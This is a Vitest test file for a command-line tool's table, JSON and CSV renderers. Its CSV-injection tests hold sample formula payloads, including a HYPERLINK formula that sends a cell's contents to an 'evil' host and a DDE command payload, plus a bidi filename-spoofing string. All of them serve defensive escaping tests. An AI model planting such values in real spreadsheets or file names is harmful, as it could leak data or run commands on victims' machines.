import { describe, expect, it } from 'vitest';
import { terminalText } from '../../client/cli/terminal-text.js';
import { cellText, csvField, displayWidth, fitColumns, renderCsv, renderJson, renderTable, truncate, type RenderTable } from '../../client/cli/render.js';
import { appendTable } from '../../client/cli/output.js';

const table: RenderTable = {
    fields: [
        { name: 'method', type: 'string' },
        { name: 'count_', type: 'integer' },
        { name: 'info', type: 'dynamic' },
    ],
    columns: [
        ['GET', 'POST', null],
        [6571, 12, 0],
        [{ a: 1 }, null, 'line1\nline2'],
    ],
};

describe('renderTable', () => {
    it('aligns columns, right-aligns numbers and ends with the row count', () => {
        expect(renderTable(table)).toBe(
            [
                'method  count_  info',
                '──────  ──────  ────────────',
                'GET       6571  {"a":1}',
                'POST        12',
                '             0  line1\\nline2',
                '3 rows',
                '',
            ].join('\n'),
        );
    });

    it('says 1 row and 0 rows', () => {
        expect(renderTable({ fields: [{ name: 'x' }], columns: [[1]] })).toMatch(/\n1 row\n$/);
        expect(renderTable({ fields: [{ name: 'x' }], columns: [[]] })).toBe('x\n─\n0 rows\n');
        expect(renderTable({ fields: [], columns: [] })).toBe('0 rows\n');
    });

    it('fits the width by cutting the widest cells with …', () => {
        const wide: RenderTable = {
            fields: [{ name: 'id' }, { name: 'message' }],
            columns: [
                [1, 2],
                ['a'.repeat(100), 'short'],
            ],
        };
        const text = renderTable(wide, { width: 30 });
        for (const line of text.split('\n')) expect(displayWidth(line)).toBeLessThanOrEqual(30);
        expect(text).toContain('…');
        expect(text).toContain('short');
        // unlimited width keeps everything
        expect(renderTable(wide)).toContain('a'.repeat(100));
    });

    it('counts wide characters as two columns', () => {
        expect(displayWidth('日本')).toBe(4);
        expect(truncate('日本語テキスト', 5)).toBe('日本…');
        expect(truncate('abcdef', 4)).toBe('abc…');
        expect(truncate('abc', 4)).toBe('abc');
    });
});

describe('fitColumns', () => {
    it('leaves columns that fit alone', () => {
        expect(fitColumns([5, 10], 80)).toEqual([5, 10]);
        expect(fitColumns([5, 10], undefined)).toEqual([5, 10]);
    });
    it('narrows the widest columns first and uses the whole width', () => {
        const w = fitColumns([5, 100, 50], 60);
        expect(w[0]).toBe(5);
        expect(w.reduce((a, b) => a + b, 0) + 4).toBe(60);
        expect(w[1]).toBeGreaterThanOrEqual(w[2]);
    });
});

describe('renderJson', () => {
    it('prints an array of row objects, one per line', () => {
        const text = renderJson(table);
        expect(JSON.parse(text)).toEqual([
            { method: 'GET', count_: 6571, info: { a: 1 } },
            { method: 'POST', count_: 12, info: null },
            { method: null, count_: 0, info: 'line1\nline2' },
        ]);
        expect(text.split('\n')).toHaveLength(6);
        expect(renderJson({ fields: [{ name: 'x' }], columns: [[]] })).toBe('[]\n');
    });
});

describe('renderCsv', () => {
    it('quotes what needs quoting and writes objects as JSON', () => {
        expect(renderCsv(table)).toBe('method,count_,info\nGET,6571,"{""a"":1}"\nPOST,12,\n,0,"line1\nline2"\n');
        expect(csvField('a,b')).toBe('"a,b"');
        expect(csvField(' padded')).toBe('" padded"');
        expect(csvField(true)).toBe('true');
        expect(csvField(null)).toBe('');
    });

    // OWASP's rule for CSV injection: a cell a spreadsheet would take as a formula starts with a quote.
    it.each([
        ['=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
        ['+1+cmd|calc', "'+1+cmd|calc"],
        ['-2+3', "'-2+3"],
        ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
        ['\t=1', "'\t=1"],
        ['\r=1', `"'\r=1"`],
        ['＝1+1', "'＝1+1"],
    ])('a text cell %j is written as %s', (value, expected) => {
        expect(csvField(value)).toBe(expected);
        expect(csvField(value, false).startsWith("'") || csvField(value, false).startsWith(`"'`)).toBe(false);
    });

    it('numbers stay exact: a number value, and a text that is just a number, get no quote', () => {
        expect(csvField(-5)).toBe('-5');
        expect(csvField(-1.5e-7)).toBe('-1.5e-7');
        expect(csvField('-5')).toBe('-5');
        expect(csvField('+3.25')).toBe('+3.25');
        expect(csvField('-')).toBe("'-");
        expect(csvField('safe=text')).toBe('safe=text');
    });

    it('field names are guarded too, and { exact: true } writes the data as it is', () => {
        const hostile: RenderTable = { fields: [{ name: '=cmd' }, { name: 'n' }], columns: [['@x', '-1+1'], [-3, 4]] };
        expect(renderCsv(hostile)).toBe("'=cmd,n\n'@x,-3\n'-1+1,4\n");
        expect(renderCsv(hostile, { exact: true })).toBe('=cmd,n\n@x,-3\n-1+1,4\n');
    });
});

describe('cellText', () => {
    it('escapes control characters', () => {
        expect(cellText('a\tb\r\nc')).toBe('a\\tb\\r\\nc');
        expect(cellText('\u001b[31mred\u0007\u009b')).toBe('\\033[31mred\\a\\233');
        expect(cellText(null)).toBe('');
        expect(cellText([1, 2])).toBe('[1,2]');
    });
});

describe('bidi and invisible characters in terminal output', () => {
    it.each([
        ['invoice\u202Egnp.exe', 'invoice\\u202Egnp.exe'],
        ['\u2066\u2067\u2068\u2069\u200E\u200F\u061C', '\\u2066\\u2067\\u2068\\u2069\\u200E\\u200F\\u061C'],
        ['a\u200Bb\uFEFFc\u2028d', 'a\\u200Bb\\uFEFFc\\u2028d'],
    ])('%j is shown as %s in a table and in messages', (value, shown) => {
        expect(terminalText(value)).toBe(shown);
        expect(cellText(value)).toBe(shown);
        const table: RenderTable = { fields: [{ name: value }], columns: [[value]] };
        const text = renderTable(table, { width: 200 });
        expect(text).toContain(shown);
        expect(text).not.toMatch(/[\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/);
    });

    it('CSV for a terminal shows them too; CSV into a file keeps them', () => {
        const table: RenderTable = { fields: [{ name: 'f' }], columns: [['a\u202Eb']] };
        expect(renderCsv(table, { terminal: true })).toBe('f\na\\u202Eb\n');
        expect(renderCsv(table)).toBe('f\na\u202Eb\n');
    });
});

describe('appendTable', () => {
    it('merges pages by field name', () => {
        const merged = appendTable(
            { fields: [{ name: 'a' }, { name: 'b' }], columns: [[1], [2]] },
            { fields: [{ name: 'b' }, { name: 'c' }], columns: [[3], [4]] },
        );
        expect(merged.fields.map(f => f.name)).toEqual(['a', 'b', 'c']);
        expect(merged.columns).toEqual([
            [1, null],
            [2, 3],
            [null, 4],
        ]);
    });
});
